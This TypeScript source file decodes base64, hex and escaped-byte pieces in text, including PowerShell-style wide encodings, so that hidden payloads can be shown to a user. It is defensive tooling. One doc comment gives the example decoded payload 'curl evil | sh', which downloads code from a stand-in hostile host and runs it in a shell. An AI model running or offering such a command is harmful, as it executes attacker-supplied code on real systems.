const MAX_PAYLOADS = 8;
const MAX_SHOWN = 400;
const MAX_DEPTH = 3;
const BASE64 = /[A-Za-z0-9+/_-]{12,}={0,2}/g;
const HEX = /(?:0x)?(?:[0-9a-fA-F]{2}){6,}/g;
const ESCAPED = /(?:\\x[0-9a-fA-F]{2}|%[0-9a-fA-F]{2}){4,}/g;

/**
 * The decoded content of encoded pieces, shown to the user beside the text: `Y3VybCBldmlsL… says: curl evil | sh`.
 * Decoded again if the result contains such a piece. Only plain text counts; no judgement uses it.
 */
export function decodedPayloads(text: string): readonly string[] {
  return plainPieces(text.slice(0, 128_000), MAX_PAYLOADS).map(
    ({ piece, plain }) =>
      `${piece.length > 24 ? `${piece.slice(0, 24)}…` : piece} says: ${plain.length > MAX_SHOWN ? `${plain.slice(0, MAX_SHOWN)}…` : plain.trimEnd()}`,
  );
}

/** Encoded pieces of a text with what they say, those within them included. */
export function plainPieces(
  text: string,
  limit: number,
): readonly { readonly piece: string; readonly plain: string }[] {
  const found: { readonly piece: string; readonly plain: string }[] = [];
  collect(text, 0);
  return found;

  function collect(within: string, depth: number): void {
    if (depth >= MAX_DEPTH) return;
    for (const [pattern, decode] of DECODERS) {
      for (const [piece] of within.matchAll(pattern)) {
        if (found.length >= limit) return;
        const plain = decode(piece);
        if (plain === undefined || plain.trim() === "" || plain === piece) continue;
        found.push({ piece, plain });
        collect(plain, depth + 1);
      }
    }
  }
}

const DECODERS: readonly (readonly [RegExp, (piece: string) => string | undefined])[] = [
  [ESCAPED, (piece) => plainText(Buffer.from(piece.replaceAll(/\\x|%/g, ""), "hex"))],
  [HEX, (piece) => plainText(Buffer.from(piece.replace(/^0x/, ""), "hex"))],
  [
    BASE64,
    (piece) =>
      /[A-Z]/.test(piece) && /[a-z]/.test(piece)
        ? plainText(wideText(Buffer.from(piece, piece.includes("-") || piece.includes("_") ? "base64url" : "base64")))
        : undefined,
  ],
];

/** What PowerShell's `-EncodedCommand` takes: two bytes a letter. */
function wideText(bytes: Buffer): Buffer {
  const wide = bytes.length % 2 === 0 && bytes.length >= 6 && bytes.every((byte, at) => at % 2 === 0 || byte === 0);
  return wide ? Buffer.from(bytes.toString("utf16le")) : bytes;
}

/**
 * Words of a commit id or of a path decode to something, too: only bytes that are text throughout count, and few are
 * not letters.
 */
function plainText(bytes: Buffer): string | undefined {
  if (bytes.length < 6) return undefined;
  const text = bytes.toString("utf8");
  if (text.includes("\uFFFD") || /[\0-\x08\x0e-\x1f\x7f]/.test(text)) return undefined;
  const common = text.match(/[\w\s./:;|&$"'`(){}<>=@,+*-]/g)?.length ?? 0;
  return common / text.length > 0.9 ? text : undefined;
}
